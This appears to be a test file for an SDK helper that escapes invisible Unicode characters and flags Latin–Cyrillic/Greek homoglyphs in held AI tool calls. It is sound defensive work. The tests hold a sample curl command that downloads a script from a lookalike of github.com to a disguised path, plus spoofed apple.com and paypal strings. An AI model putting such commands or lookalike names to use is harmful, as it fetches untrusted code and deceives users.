// What a person reads of a held call: every character they would not see shown as its escape.
import { describe, expect, it } from "vitest";
import { mixedScriptNote, mixedScriptNotes, visibleText } from "../../sdk/visible-text.js";

describe("visibleText", () => {
  it("shows bidi controls, zero-width and format characters as escapes, and keeps tab, newline and letters", () => {
    expect(visibleText("a\u202Eb\u200Bc\uFEFF\u2066d\t\n\u0430")).toBe("a\\u202Eb\\u200Bc\\uFEFF\\u2066d\t\n\u0430");
    expect(visibleText("x\u{E0041}\uFE0F\u3164\u0007")).toBe("x\\u{E0041}\\uFE0F\\u3164\\u0007");
  });

  it("shows unassigned default-ignorable code points, which browsers draw as nothing", () => {
    expect(visibleText("comm\u2065and")).toBe("comm\\u2065and");
    expect(visibleText("a\uFFF0b\uFFF8c")).toBe("a\\uFFF0b\\uFFF8c");
    expect(visibleText("a\u{E0FFF}b\u{E0080}")).toBe("a\\u{E0FFF}b\\u{E0080}");
  });
});

describe("what a person reads of a held call's argument values", () => {
  it("shows blanks that are not U+0020 as escapes: space separators, the Braille blank, fillers", () => {
    expect(visibleText("/tmp/a\u2800\u00A0")).toBe("/tmp/a\\u2800\\u00A0");
    expect(visibleText("a\u2003b\u202Fc\u3000d\u1680e\u205Ff\u3164g")).toBe("a\\u2003b\\u202Fc\\u3000d\\u1680e\\u205Ff\\u3164g");
    expect(visibleText("a  b\tc\nd")).toBe("a  b\tc\nd");
  });

  it("marks a word or host that mixes Latin with Cyrillic or Greek letters, and says which letters", () => {
    const args = JSON.stringify({ command: "curl", args: ["https://g\u0456thub.com/x.sh", "-o", "/tmp/a\u2800\u00A0"] });
    expect(visibleText(args)).toBe('{"command":"curl","args":["https://⚠g\u0456thub.com/x.sh","-o","/tmp/a\\u2800\\u00A0"]}');
    expect(mixedScriptNotes(args)).toEqual(['"g\u0456thub.com" mixes Latin and Cyrillic letters, which can look alike: \u0456 (U+0456) is not Latin']);
    // A whole-Cyrillic name under a Latin top-level domain reads "apple.com".
    expect(visibleText("\u0430\u0440\u0440\u04CF\u0435.com")).toBe("⚠\u0430\u0440\u0440\u04CF\u0435.com");
    expect(mixedScriptNote("p\u0430yp\u0430l")).toBe('"p\u0430yp\u0430l" mixes Latin and Cyrillic letters, which can look alike: \u0430 (U+0430) is not Latin');
    expect(visibleText("\u03BFk x\u03BF")).toBe("⚠\u03BFk ⚠x\u03BF");
    // An invisible filler or a dot before the word does not hide it.
    expect(visibleText("\u3164g\u0456t .g\u0456t")).toBe("\\u3164⚠g\u0456t .⚠g\u0456t");
  });

  it("leaves honest text as it is: ASCII, accented Latin, whole-Cyrillic and whole-Greek words, CJK", () => {
    for (const text of ['{"path":"/tmp/x-1.y","n":42}', "café über Ærø", "Привет, мир: пример.рф", "λόγος καλός", "東京 Tokyo 東京Tokyo", "Привет hello"]) {
      expect(visibleText(text)).toBe(text);
      expect(mixedScriptNotes(text)).toEqual([]);
    }
  });

  it("reads long text once: a word is tried at its start only", () => {
    // Were each letter of a long word tried as a start, these would take minutes.
    for (const text of ["a.".repeat(100_000), "\u0430".repeat(100_000) + "-".repeat(100_000), `${"a".repeat(200_000)}\u0430`]) {
      expect(visibleText(text)).toBe(text.endsWith("\u0430") ? `⚠${text}` : text);
    }
  });
});
